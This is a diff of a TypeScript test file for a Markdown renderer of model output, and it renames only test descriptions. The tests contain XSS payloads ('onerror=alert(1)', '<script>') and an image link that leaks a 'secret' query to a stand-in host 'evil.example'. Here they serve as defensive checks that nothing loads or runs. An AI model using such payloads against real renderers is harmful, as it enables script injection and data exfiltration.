@@ -6,7 +6,7 @@ import { lexMarkdown, NO_BLOCKS } from './markdown-blocks.ts';
 
 const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
 
-describe('what a model writes is shown', () => {
+describe('Markdown of a model is rendered', () => {
   test.each([
     ['# Tides\n\nThey *rise* and **fall**.', '<h3>Tides</h3><p>They <em>rise</em> and <strong>fall</strong>.</p>'],
     ['1. one\n2. two', '<ol start="1"><li>one</li><li>two</li></ol>'],
@@ -43,14 +43,14 @@ describe('formulas', () => {
   });
 });
 
-describe('nothing in it loads or runs by itself', () => {
+describe('nothing in it is loaded or executed', () => {
   test('HTML is text', () => {
     const page = html('<img src=x onerror=alert(1)>\n\nso <b>bold</b> <script>alert(1)</script>');
     expect(page).not.toMatch(/<(img|script|b)\b/);
     expect(page).toContain('&lt;b&gt;bold&lt;/b&gt;');
   });
 
-  test('images are named, not loaded', () => {
+  test('images are shown as names and not loaded', () => {
     const page = html('![cat](https://evil.example/?q=secret) ![ref][1]\n\n[1]: https://evil.example/2');
     expect(page).not.toContain('<img');
     expect(page).toContain('Image: cat (evil.example, not loaded)');
@@ -63,11 +63,11 @@ describe('nothing in it loads or runs by itself', () => {
     'vbscript:x',
     'file:///etc/passwd',
     '/etc',
-  ])('a link to %s is no link', (address) => {
+  ])('a link to %s is not rendered as a link', (address) => {
     expect(html(`[click](${address})`)).not.toContain('<a');
   });
 
-  test('a web link opens elsewhere and tells nobody', () => {
+  test('a web link opens in a new tab without referrer and opener', () => {
     expect(html('[site](https://example.org/a)')).toContain(
       '<a href="https://example.org/a" title="https://example.org/a" target="_blank" rel="noopener noreferrer">site</a>',
     );
@@ -102,7 +102,7 @@ describe('a text that grows', () => {
     '+ b\n',
   );
 
-  test('ends as the same blocks as the whole text', () => {
+  test('ends with the same blocks as the whole text', () => {
     fc.assert(
       fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
         let blocks = NO_BLOCKS;
@@ -122,7 +122,7 @@ describe('a text that grows', () => {
     );
   });
 
-  test('keeps the blocks that are settled', () => {
+  test('keeps the identity of finished blocks', () => {
     const first = lexMarkdown(NO_BLOCKS, 'One.\n\nTwo.\n\nThr');
     const second = lexMarkdown(first, 'One.\n\nTwo.\n\nThree.');
     expect(second.settled[0]).toBe(first.settled[0]);
